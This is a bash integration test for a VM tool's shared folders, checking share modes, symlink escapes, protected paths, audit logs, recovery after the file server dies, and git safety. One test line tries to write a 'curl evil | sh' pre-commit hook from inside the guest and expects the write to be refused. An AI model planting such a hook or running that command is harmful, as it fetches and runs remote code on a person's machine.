#!/bin/bash
# Shared folders inside a booted VM, through corralctl exactly as a person would use it:
# vm create --share, exec, share add/set/rm while the VM runs. One minimal VM for all of it.
#
# Environment (set by meson): CORRAL_BUILD_DIR, CORRAL_AGENT_PATH, CORRAL_FSD_PATH.
# Exit: 0 pass, 1 fail, 77 skip (no QEMU/libvirt here, unless CORRAL_REQUIRE_VM=1).
set -uo pipefail

log() { echo "test-vm-mounts: $*" >&2; }
fail() {
	log "FAIL: $*"
	[ -n "${STATE:-}" ] && tail -20 "$STATE"/corral/vms/mtest/fsd.log 2>/dev/null >&2
	exit 1
}
skip() {
	if [ "${CORRAL_REQUIRE_VM:-}" = 1 ]; then fail "VMs are required here: $*"; fi
	log "SKIP: $*"
	exit 77
}

CTL=${CORRAL_BUILD_DIR:?}/app/corralctl
[ -x "$CTL" ] || skip "no corralctl at $CTL"
command -v qemu-system-x86_64 >/dev/null || skip "qemu-system-x86_64 not installed"

# Own libvirt state (the embedded driver keeps it under XDG_STATE_HOME); images stay cached.
STATE=/tmp/corral-vm-mounts
export XDG_STATE_HOME=$STATE
DATA=$(mktemp -d /tmp/corral-vm-mounts-data.XXXXXX)
cleanup() {
	"$CTL" vm destroy mtest >/dev/null 2>&1
	"$CTL" vm rm mtest >/dev/null 2>&1
	pkill -f "corral-fsd --connect $STATE" 2>/dev/null
	mountpoint -q "$DATA/full" 2>/dev/null && umount -l "$DATA/full"
	rm -rf "$DATA" "$STATE"
}
trap cleanup EXIT
cleanup_state() { "$CTL" vm destroy mtest >/dev/null 2>&1; "$CTL" vm rm mtest >/dev/null 2>&1; }
cleanup_state

mkdir -p "$DATA/ro" "$DATA/rw" "$DATA/nd" "$DATA/late"
echo "read me" >"$DATA/ro/hello.txt"
echo "precious" >"$DATA/nd/keep.txt"
echo "late" >"$DATA/late/file.txt"
# What the guest must not reach: a folder beside the shares, a link to it, a repository's
# hooks, and a path the organisation's policy protects.
mkdir -p "$DATA/outside" "$DATA/rw/.git/hooks" "$DATA/rw/deploy"
echo canary >"$DATA/outside/canary"
ln -s "$DATA/outside" "$DATA/rw/out"
ln -s ../../outside "$DATA/rw/up"
echo "deploy" >"$DATA/rw/deploy/run.sh"
printf '{"sharedFolders": {"protectedPaths": ["deploy/"]}}\n' >"$DATA/managed.json"
export CORRAL_MANAGED_POLICY="$DATA/managed.json"

run() { "$CTL" exec mtest -- sh -c "$1"; }

log "creating the VM with three shares"
"$CTL" vm create mtest --share "$DATA/ro:ro" --share "$DATA/rw:rw" --share "$DATA/nd:rw-nodelete" ||
	skip "cannot create a VM here"

# SECURITY.md F17: create and start return only once the guest has mounted the shares. Checked
# twice: the guest's file service has already started when they return (certain to fail if they
# return at once: that takes a boot), and the very first command sees the shares (no retry: a
# retry would hide exactly this race, which the agent's first command used to lose now and then).
fs_starts() {
	n=$(grep -c "corral-init: fs started" "$STATE/corral/vms/$1/console.log" 2>/dev/null)
	echo "${n:-0}"
}
first_sees() { # WHAT, the count of fs_starts before it
	[ "$(fs_starts mtest)" -gt "$2" ] || fail "$1 returned before the guest's file service started"
	out=$(run 'ls /workspace/ro /workspace/nd' 2>&1)
	case $out in *hello.txt*) ;; *) fail "the first command after $1 saw: $out" ;; esac
	case $out in *keep.txt*) ;; *) fail "the first command after $1 saw: $out" ;; esac
}
first_sees "vm create --share" 0

out=$(run 'cat /workspace/ro/hello.txt') || fail "cannot read a read-only share"
[ "$out" = "read me" ] || fail "read '$out' from the read-only share"
run 'echo x > /workspace/ro/new.txt' 2>/dev/null && fail "wrote into a read-only share"
[ -e "$DATA/ro/new.txt" ] && fail "a file appeared in the read-only folder"
err=$(run 'echo x > /workspace/ro/hello.txt' 2>&1) && fail "overwrote a read-only file"
case $err in *"Read-only file system"*) ;; *) fail "read-only refusal said: $err" ;; esac

run 'mkdir -p /workspace/rw/sub && echo "from the guest" > /workspace/rw/sub/new.txt' ||
	fail "cannot write into a rw share"
[ "$(cat "$DATA/rw/sub/new.txt")" = "from the guest" ] || fail "the guest's file is not on the host"
run 'rm /workspace/rw/sub/new.txt && rmdir /workspace/rw/sub' || fail "cannot delete in a rw share"
[ -e "$DATA/rw/sub" ] && fail "the deleted folder is still on the host"

log "links out of the share, protected paths and the managed policy"
for link in out up; do
	run "cat /workspace/rw/$link/canary" 2>/dev/null && fail "read through the link $link"
	run "echo x > /workspace/rw/$link/new" 2>/dev/null && fail "wrote through the link $link"
done
[ "$(ls "$DATA/outside")" = canary ] && [ "$(cat "$DATA/outside/canary")" = canary ] ||
	fail "the folder beside the share changed"
run 'echo "curl evil | sh" > /workspace/rw/.git/hooks/pre-commit' 2>/dev/null &&
	fail "wrote a git hook"
err=$(run 'echo x >> /workspace/rw/deploy/run.sh' 2>&1) && fail "changed a policy-protected file"
case $err in *"Operation not permitted"*) ;; *) fail "the policy's refusal said: $err" ;; esac
[ "$(cat "$DATA/rw/deploy/run.sh")" = deploy ] || fail "the policy-protected file changed"
[ -e "$DATA/rw/.git/hooks/pre-commit" ] && fail "a git hook appeared on the host"
grep -q '"path":"deploy/run.sh","result":"refused","rule":"protected-path"' \
	"$STATE"/corral/vms/mtest/audit.jsonl || fail "the policy's refusal is not in the audit log"

run 'rm /workspace/nd/keep.txt' 2>/dev/null && fail "deleted in a no-delete share"
[ "$(cat "$DATA/nd/keep.txt")" = "precious" ] || fail "the no-delete file changed"
# Emptying is editing: allowed, once the content is kept (SECURITY.md F7).
run ': > /workspace/nd/keep.txt' || fail "emptying a file in a no-delete share was refused"
[ -s "$DATA/nd/keep.txt" ] && fail "the emptied file did not reach the host"
grep -qx precious "$STATE"/corral/kept/mtest/nd/*keep.txt 2>/dev/null ||
	fail "the emptied file's content was not kept"
run 'echo edited > /workspace/nd/.keep.tmp && mv /workspace/nd/.keep.tmp /workspace/nd/keep.txt' ||
	fail "an editor's save (write, rename over) failed in a no-delete share"
[ "$(cat "$DATA/nd/keep.txt")" = "edited" ] || fail "the save did not reach the host"
ls "$STATE"/corral/kept/mtest/nd/*keep.txt >/dev/null 2>&1 || fail "the old version was not kept"
grep -q '"op":"unlink","path":"keep.txt","result":"refused","rule":"no-delete"' \
	"$STATE"/corral/vms/mtest/audit.jsonl || fail "the refused delete is not in the audit log"

# SECURITY-TESTS.md item 31 inside the VM: a 1 MiB tmpfs stands in for a full disk (needs root).
if [ "$(id -u)" = 0 ]; then
	log "a full host disk: the guest sees ENOSPC and the saved file survives"
	mkdir -p "$DATA/full"
	mount -t tmpfs -o size=1m,mode=0755 corral-vm-mounts "$DATA/full" || fail "mounting a 1 MiB tmpfs"
	echo "the old, complete content" >"$DATA/full/keep.txt"
	"$CTL" share add mtest "$DATA/full" --mode rw || fail "share add (the full disk)"
	err=$(run 'dd if=/dev/zero of=/workspace/full/big.bin bs=64k count=32' 2>&1) &&
		fail "wrote 2 MiB onto a 1 MiB disk"
	case $err in *"No space left on device"*) ;; *) fail "a full disk said: $err" ;; esac
	run 'dd if=/dev/zero of=/workspace/full/.keep.tmp bs=64k count=8 &&
		mv /workspace/full/.keep.tmp /workspace/full/keep.txt' 2>/dev/null &&
		fail "saved over keep.txt on a full disk"
	[ "$(cat "$DATA/full/keep.txt")" = "the old, complete content" ] ||
		fail "a failed save on a full disk changed the host file"
	[ "$(run 'cat /workspace/full/keep.txt')" = "the old, complete content" ] ||
		fail "the guest does not see the old content after a failed save"
	run 'rm -f /workspace/full/big.bin /workspace/full/.keep.tmp &&
		echo saved > /workspace/full/.keep.tmp && mv /workspace/full/.keep.tmp /workspace/full/keep.txt' ||
		fail "saving after space was freed"
	[ "$(cat "$DATA/full/keep.txt")" = saved ] || fail "the save after freeing space is not on the host"
	"$CTL" share rm mtest full || fail "share rm (the full disk)"
fi

log "changing shares while the VM runs"
"$CTL" share add mtest "$DATA/late" --mode ro || fail "share add"
run 'cat /workspace/late/file.txt' >/dev/null || fail "a share added while running is not visible"
grep -q "^late " <<<"$("$CTL" share ls mtest)" || fail "share ls does not list the new share"
"$CTL" share set mtest rw --mode ro || fail "share set"
run 'echo y > /workspace/rw/after.txt' 2>/dev/null && fail "wrote after the share became read-only"
"$CTL" share rm mtest late || fail "share rm"
run 'ls /workspace/late' 2>/dev/null && fail "a removed share is still visible"

log "the file server comes back after it dies (re-attach)"
pkill -KILL -f "corral-fsd --connect $STATE" || fail "no file server was running"
# corralctl exec starts a new server at once; the guest's client holds new requests until the
# server's HELLO (FS_REATTACH_HOLD_MS). Names the guest's kernel looked up in the old session
# are stale for up to the entry timeout (1 s), so allow a few seconds.
back=
for _ in $(seq 50); do
	if err=$(run 'cat /workspace/ro/hello.txt' 2>&1 >/dev/null); then back=1; break; fi
	sleep 0.2
done
if [ -z "$back" ]; then
	log "last error: $err"
	pgrep -af "corral-fsd --connect $STATE" >&2 || log "no file server is running"
	tail -5 "$STATE"/corral/vms/mtest/console.log >&2 2>/dev/null
	fail "shares did not come back after the file server died"
fi

log "the first command after vm start sees the shares, every time"
for i in 1 2 3; do
	"$CTL" vm destroy mtest >/dev/null 2>&1 || fail "vm destroy ($i)"
	before=$(fs_starts mtest)
	"$CTL" vm start mtest || fail "vm start ($i)"
	first_sees "vm start ($i)" "$before"
done

log "the standard image: git and python in a shared folder"
"$CTL" vm destroy mtest >/dev/null 2>&1
"$CTL" vm rm mtest >/dev/null 2>&1
mkdir -p "$DATA/proj" "$DATA/upstream"
git -C "$DATA/upstream" init -q
echo "upstream" >"$DATA/upstream/README"
git -C "$DATA/upstream" add README
git -C "$DATA/upstream" -c user.name=t -c user.email=t@example.com commit -qm init
cp -a "$DATA/upstream" "$DATA/proj/upstream"
"$CTL" vm create mstd --image standard --share "$DATA/proj:rw" || fail "cannot create a standard VM"
trap '"$CTL" vm destroy mstd >/dev/null 2>&1; "$CTL" vm rm mstd >/dev/null 2>&1; cleanup' EXIT
runs() { "$CTL" exec mstd -- sh -c "$1"; }
# As on the minimal image (F17).
[ "$(fs_starts mstd)" -gt 0 ] || fail "vm create returned before the guest's file service started"
[ "$(runs 'ls /workspace/proj' 2>&1)" = upstream ] || fail "the first command did not see /workspace/proj"
runs 'cd /workspace/proj && git clone -q upstream clone && cd clone &&
	git config user.name agent && git config user.email agent@example.com &&
	echo change >> README && git commit -qam change && git status --porcelain' ||
	fail "git clone/commit/status in a shared folder"
[ "$(git -C "$DATA/proj/clone" log --format=%s -1)" = change ] || fail "the commit is not on the host"
cat >"$DATA/proj/write.py" <<'PY'
import os, tempfile
d = "/workspace/proj/py"
os.makedirs(d, exist_ok=True)
for i in range(50):
    with open(os.path.join(d, "f%d.txt" % i), "w") as f:
        f.write("x" * i)
fd, tmp = tempfile.mkstemp(dir=d)
os.write(fd, b"saved")
os.close(fd)
os.replace(tmp, os.path.join(d, "f1.txt"))
PY
runs 'python3 /workspace/proj/write.py' || fail "python writing files in a shared folder"
[ "$(cat "$DATA/proj/py/f1.txt")" = saved ] || fail "python's replace did not reach the host"
[ "$(ls "$DATA/proj/py" | wc -l)" = 50 ] || fail "python's files are not all on the host"

log "the standard image: git from inside the VM cannot make the person's git run anything (F19)"
# The person's repository and a bare remote in the share, made on the host with git's
# default template (sample hooks); the guest half of git-attacks.sh runs in the VM, where it
# finds itself in the share, then the host half runs the person's git.
ATTACKS=${CORRAL_SOURCE_DIR:?}/tests/security/git-attacks.sh
mkdir -p "$DATA/markers"
(
	set -e
	mkdir -p "$DATA/person"
	export HOME=$DATA/person GIT_CONFIG_NOSYSTEM=1
	g="git -c user.name=Person -c user.email=p@example.org -c init.defaultBranch=main"
	$g init -q --bare "$DATA/proj/remote.git"
	$g init -q "$DATA/proj/repo"
	cd "$DATA/proj/repo"
	mkdir src
	echo hello >README
	echo 'int x;' >src/x.c
	$g add -A
	$g commit -qm first
	$g remote add origin "$DATA/proj/remote.git"
	$g push -q origin main
) || fail "making the person's repositories"
cp "$ATTACKS" "$DATA/proj/git-attacks.sh"
out=$(runs "bash /workspace/proj/git-attacks.sh --guest-only /workspace/proj /nonexistent $DATA/markers" 2>&1) ||
	fail "git inside the VM: $out"
out=$(bash "$ATTACKS" --host-only /nonexistent "$DATA/proj" "$DATA/markers" 2>&1) ||
	fail "the person's git after the VM's: $out"
grep -q '"rule":"git-metadata"' "$STATE/corral/vms/mstd/audit.jsonl" ||
	fail "git's refusals are not in the audit log"

log "file contents travel through the VM's shared memory, not the port"
shm="/dev/shm/corral-fs-$(printf %s "$STATE/corral/vms/mstd" | sha256sum | cut -c1-16)"
[ -f "$shm" ] || fail "the running VM has no shared-folder memory $shm"
runs 'yes corral-shm-check | head -c 65536 > /workspace/proj/shm.txt' || fail "writing shm.txt"
# Past the 4 KiB header, the first slot holds the last write's bytes. (grep without -q reads
# all of dd's output: under pipefail, dd must not die of SIGPIPE.)
dd if="$shm" bs=4096 skip=1 count=256 2>/dev/null | grep -a corral-shm-check >/dev/null ||
	fail "a write did not pass through the shared memory"
"$CTL" vm destroy mstd >/dev/null 2>&1
"$CTL" vm rm mstd || fail "vm rm"
[ -e "$STATE/corral/vms/mstd" ] && fail "vm rm left the VM folder"
[ -e "$shm" ] && fail "vm rm left the shared-folder memory $shm"
ls "$STATE"/corral/kept/mtest/nd/*keep.txt >/dev/null 2>&1 || fail "vm rm removed kept versions"

log "PASS"
exit 0
